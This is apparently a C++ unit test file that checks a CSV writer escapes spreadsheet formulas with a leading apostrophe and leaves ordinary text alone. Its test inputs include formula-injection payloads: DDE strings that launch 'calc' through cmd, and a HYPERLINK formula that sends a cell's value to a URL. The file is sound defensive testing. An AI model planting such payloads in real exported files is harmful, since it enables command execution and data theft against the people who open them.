#include "base/printing/csv.h"

#include <gtest/gtest.h>

namespace sonde {
namespace {

TEST(Csv, FormulasGetAnApostrophe) {
  for (std::string_view text : {"=1+1",
                                "=HYPERLINK(\"http://x/\"&A1)",
                                "+cmd|' /C calc'!A0",
                                "@SUM(A1)",
                                "\t=1",
                                "\r=1",
                                "\n=1",
                                "-2+3",
                                "+",
                                "+A1",
                                "-cmd|'/C calc'!A0",
                                "-(1)",
                                "+1 .. =2",
                                "+1 .. ",
                                "-1 .. A1",
                                "\uff1d1",
                                "\"=1+1\"",
                                "\"\"@SUM(A1)",
                                " =1+1",
                                "\" =1\""}) {
    EXPECT_TRUE(looks_like_formula(text)) << text;
    EXPECT_EQ(csv_text(text, true), "'" + std::string(text));
    EXPECT_EQ(csv_text(text, false), text);
  }
}

TEST(Csv, NamesBeginNoCellsAndNoRows) {
  EXPECT_EQ(csv_name("a,=1+1", ",", true), "a.=1+1");
  EXPECT_EQ(csv_name("a\n=1,b\r\n", ",", true), "a.=1.b..");
  EXPECT_EQ(csv_name("a::b,c", "::", true), "a.:b,c");
  EXPECT_EQ(csv_name("=1;2", ";", true), "'=1.2");
  EXPECT_EQ(csv_name("a,b\n", "", false), "a,b.");
}

TEST(Csv, OrdinaryNamesStay) {
  for (std::string_view text : {"", "bash", "-bash", "-1", "+1.25%", "-0.5%", "-", "a=b", "main;=x",
                                "operator+", "[unknown]", "+27.73 .. +65.35", "-14.48 .. +28.91",
                                "kworker/0:1-events", "0x10", "'", "/usr/bin/=x"}) {
    EXPECT_FALSE(looks_like_formula(text)) << text;
    EXPECT_EQ(csv_text(text, true), text);
  }
}

}  // namespace
}  // namespace sonde
